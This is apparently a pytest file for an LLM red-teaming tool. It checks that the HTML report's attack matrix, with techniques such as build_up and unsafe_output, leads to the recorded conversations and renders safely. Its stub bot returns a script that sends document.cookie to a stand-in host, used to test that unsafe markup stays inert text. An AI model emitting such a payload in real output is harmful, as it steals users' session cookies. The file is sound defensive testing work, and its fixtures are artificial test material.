"""report.html of an attack suite in a real browser: from a cell of the matrix to the conversation in it."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Callable
from itertools import pairwise
from typing import Any

import pytest

from evalrun.journal import RunFolder

Visit = Callable[..., Any]
ReportOf = Callable[[RunFolder], str]
Violations = Callable[..., list[str]]
BOT = """
def answer(question, history):
    if "<script>" in question:
        return "<script>fetch('https://collect.example/?c='+document.cookie)</script> At a fair."
    if "speak?" in question:
        return "At a fair in Lyon."
    if "times" in question or "plus" in question:
        return "It is 775, and 851, and 1056."
    return "I don't have information about that."
"""
CONFIG = {
    "name": "attacked",
    "redteam": {
        "owner": "Mara Lund",
        "subject": "lathes",
        "private_terms": ["Dock 9"],
        "facts": [{"question": "Where did you speak?", "topic": "talks"}],
    },
    "target": {
        "kind": "python",
        "function": "attacked_bot:answer",
        "args": {"question": "{question}", "history": "{history}"},
        "answer": "@",
    },
    "provenance": "none",
    "draws": 2,
    "scorers": ["attack_success", "attack_success:pass@2", "over_refusal"],
    "gates": [{"metric": "attack_success", "group": "attacks", "max": 0.5, "on_undecided": "warn"}],
}


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> RunFolder:
    """A run of the shipped suite on a bot that does sums, and writes scripts, for everybody."""
    folder = tmp_path_factory.mktemp("attacked")
    (folder / "attacked_bot.py").write_text(BOT, "utf-8")
    (folder / "config.yaml").write_text(json.dumps(CONFIG), "utf-8")
    program = [sys.executable, "-c", "from evalrun.cli import main; main()"]
    command = [*program, "redteam", "config.yaml", "--live", "--output", "run", "--quiet"]
    done = subprocess.run(command, cwd=folder, capture_output=True, text=True, timeout=120, check=False)
    assert (folder / "run" / "run.json").exists(), done.stderr
    return RunFolder(folder / "run")


def cell(page: Any, technique: str, goal: str) -> Any:
    """The cell of the matrix at a technique and a goal."""
    goals = page.locator("#matrix thead th").all_inner_texts()
    row = page.locator("#matrix tbody tr").filter(has=page.locator(f"th:text-is('{technique}')"))
    return row.locator("td").nth(goals.index(goal) - 1)


def test_a_cell_leads_to_every_attack_in_it_and_on_to_the_conversation(
    attacked: RunFolder, report_of: ReportOf, visit: Visit
) -> None:
    """Those that succeeded stand first; what was asked, said and found stands in the drawer."""
    page = visit(report_of(attacked))
    found = cell(page, "build_up", "obey_user")
    assert "1 of 1" == found.locator("summary").inner_text()
    assert not found.locator("a").is_visible()
    found.locator("summary").click()
    assert "✕ hit: build-precedent" == " ".join(found.locator("a").inner_text().split())
    found.locator("a").click()
    drawer = page.locator("#drawer")
    assert drawer.is_visible()
    turns = drawer.locator(".draw").first.locator(".turn").all_inner_texts()
    assert 10 == len(turns)
    assert "12 times 88" in drawer.inner_text()
    assert "found: regex" in drawer.locator(".found").first.inner_text()
    page.keyboard.press("Escape")
    assert not drawer.is_visible()


def test_an_attack_that_was_resisted_can_be_read_as_well(
    attacked: RunFolder, report_of: ReportOf, visit: Visit
) -> None:
    """Silence is worth what was asked: a cell without a hit opens too, a script in an answer stays text."""
    page = visit(report_of(attacked))
    resisted = cell(page, "personal_data", "confirm_member")
    assert "0 of 2" == resisted.locator("summary").inner_text()
    resisted.locator("summary").click()
    resisted.locator("a").first.click()
    assert "I don't have information about that." in page.locator("#drawer").inner_text()
    page.keyboard.press("Escape")
    unsafe = cell(page, "unsafe_output", "unsafe_markup")
    unsafe.locator("summary").click()
    unsafe.locator("a.hit").first.click()
    assert "<script>fetch(" in page.locator("#drawer .draw .text").first.inner_text()


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [390, 1440])
def test_the_matrix_is_accessible_and_keeps_to_its_page(
    attacked: RunFolder, report_of: ReportOf, visit: Visit, violations: Violations, scheme: str, width: int
) -> None:
    """With every cell open; what is wider than the page scrolls in its own frame."""
    page = visit(report_of(attacked), color_scheme=scheme, viewport={"width": width, "height": 900})
    page.evaluate("document.querySelectorAll('#matrix details').forEach((fold) => { fold.open = true; })")
    assert width >= page.evaluate("document.documentElement.scrollWidth")
    assert [] == violations(page)


def test_the_whole_matrix_is_on_the_sheet(attacked: RunFolder, report_of: ReportOf, visit: Visit) -> None:
    """Paper has no scroll bar: every goal stands inside the margins of A4, each cell beside its neighbour."""
    page = visit(report_of(attacked), viewport={"width": 718, "height": 1047})
    page.emulate_media(media="print")
    edges = page.locator("#matrix thead th").evaluate_all(
        "(heads) => heads.map((head) => head.getBoundingClientRect()).map((box) => [box.left, box.right])"
    )
    assert 10 < len(edges)
    assert 718 >= max(right for _, right in edges)
    assert all(right <= left + 1 for (_, right), (left, _) in pairwise(edges))
    assert page.evaluate("document.documentElement.scrollWidth") <= 718
